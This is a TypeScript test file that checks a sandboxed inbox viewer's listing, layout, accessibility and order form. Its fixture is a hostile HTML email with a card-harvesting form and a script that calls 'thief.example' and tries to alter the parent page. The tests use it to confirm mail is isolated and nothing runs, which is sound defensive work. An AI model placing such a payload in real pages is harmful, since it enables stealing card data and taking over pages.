import { existsSync } from 'node:fs';
import { AxeBuilder } from '@axe-core/playwright';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { type Sandbox, startSandbox } from '../../lib/sandbox/sandbox.ts';
import { smallFunctions, smallWiring } from '../sandbox/small-shop.ts';
import { temporaryFolder } from '../sandbox/temporary-folder.ts';

const executable = [process.env.CHROMIUM, '/usr/bin/chromium', '/usr/bin/google-chrome'].find((path) => path && existsSync(path));
const picture = 'https://pictures.example/pine.png';
const hostile = `<html><body><h1>Thank you, Ada</h1><img src="${picture}" alt="">
<form action="https://thief.example"><input name="card"><button>Pay</button></form>
<script>fetch('https://thief.example'); parent.document.title = 'taken over'; document.body.append('script ran')</script></body></html>`;

let browser: Browser;

beforeAll(async () => {
  if (!executable) throw new Error('There is no Chromium: install Debian’s (apt-get install chromium) or name one in CHROMIUM.');
  browser = await chromium.launch({ executablePath: executable, args: ['--no-sandbox'] });
});
afterAll(async () => {
  await browser?.close();
});

/** A sandbox with one hostile e-mail and one SMS, and its inbox in a browser that notes every request that leaves the machine. */
async function openInbox(viewport: { width: number; height: number }): Promise<{ page: Page; sandbox: Sandbox; left: string[] }> {
  const sandbox = await startSandbox({
    port: 0,
    now: Date.UTC(2026, 10, 1, 9),
    tables: 'memory',
    folder: temporaryFolder(),
    wired: smallWiring,
    functions: smallFunctions([]),
  });
  onTestFinished(sandbox.stop);
  const raw = Buffer.from(
    [
      'From: shop@linden.example',
      'To: ada@customers.example',
      'Subject: Thank you <b>Ada</b>',
      'Content-Type: text/html',
      '',
      hostile,
    ].join('\r\n'),
  );
  const sent = [
    await sandbox.world.sendEmail({
      from: 'shop@linden.example',
      to: 'ada@customers.example',
      raw,
      tags: { 'rapport-campaign': 'thank-you' },
    }),
    await sandbox.world.sendSms({ to: '+447700900123', body: 'Thank you!', class: 'transactional', timeToLive: 600, context: {} }),
  ];
  expect(sent.map(({ outcome }) => outcome)).toEqual(['sent', 'sent']);
  const context: BrowserContext = await browser.newContext({ viewport });
  onTestFinished(() => context.close());
  const left: string[] = [];
  await context.route(/.*/, (route) => {
    const url = route.request().url();
    if (url.startsWith(sandbox.inboxUrl)) return route.continue();
    left.push(url);
    return route.abort();
  });
  const page = await context.newPage();
  await page.goto(sandbox.inboxUrl);
  return { page, sandbox, left };
}

const sizes = { desktop: { width: 1280, height: 800 }, phone: { width: 375, height: 700 } };

describe.each(Object.entries(sizes))('the inbox on a %s', (_, viewport) => {
  it('lists what was sent, newest first, and fits the screen', async () => {
    const { page } = await openInbox(viewport);
    expect(await page.locator('ol.messages li').count()).toBe(2);
    expect(await page.locator('ol.messages .subject').allInnerTexts()).toContain('Thank you <b>Ada</b>');
    expect(await sidewaysScroll(page)).toBe(0);
  });

  it('shows an e-mail as its recipient reads it, while nothing in it runs', async () => {
    const { page, left } = await openInbox(viewport);
    await page.getByText('Thank you <b>Ada</b>').click();
    const mail = page.frameLocator('iframe');
    expect(await mail.locator('h1').innerText()).toBe('Thank you, Ada');
    expect(await mail.locator('body').innerText()).not.toContain('script ran');
    expect(await page.title()).not.toContain('taken over');
    // A recipient's mail program loads pictures; it sends nothing else anywhere.
    expect(left).toEqual([picture]);
    expect(await sidewaysScroll(page)).toBe(0);
  });

  it('has nothing on which a person with a screen reader or a keyboard would stumble', async () => {
    const { page } = await openInbox(viewport);
    expect(await violations(page)).toEqual([]);
    await page.getByText('Thank you!').first().click();
    expect(await violations(page)).toEqual([]);
    await page.getByRole('link', { name: 'Inbox' }).first().click();
    await page.getByText('Thank you <b>Ada</b>').click();
    expect(await violations(page)).toEqual([]);
  });
});

describe('the desk beside the inbox', () => {
  it('jumps in time and says where time stands', async () => {
    const { page, sandbox } = await openInbox(sizes.desktop);
    await page.locator('button[name=to][value=week]').click();
    await expect.poll(() => sandbox.world.now(), { timeout: 10_000 }).toBeGreaterThanOrEqual(Date.UTC(2026, 10, 8, 9));
    expect(await page.locator('body').innerText()).toContain('2026');
  });

  it('refuses an amount that is none, in words, and keeps what was typed', async () => {
    const { page } = await openInbox(sizes.desktop);
    await page.getByLabel('Customer (id, e-mail or phone)').fill('c1');
    await page.getByLabel('Amount').fill('lots');
    await page.getByLabel('Currency').fill('GBP');
    await page.getByRole('button', { name: 'Place order' }).click();
    expect(await page.getByRole('alert').innerText()).toContain('lots');
    expect(await page.getByLabel('Customer (id, e-mail or phone)').inputValue()).toBe('c1');
  });
});

function sidewaysScroll(page: Page): Promise<number> {
  return page.evaluate('Math.max(0, document.documentElement.scrollWidth - document.documentElement.clientWidth)');
}

async function violations(page: Page): Promise<string[]> {
  // The mail in the frame is the marketer's; the page around it is ours.
  const { violations: found } = await new AxeBuilder({ page }).exclude('iframe').analyze();
  return found.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 120)).join(' | ')}`);
}
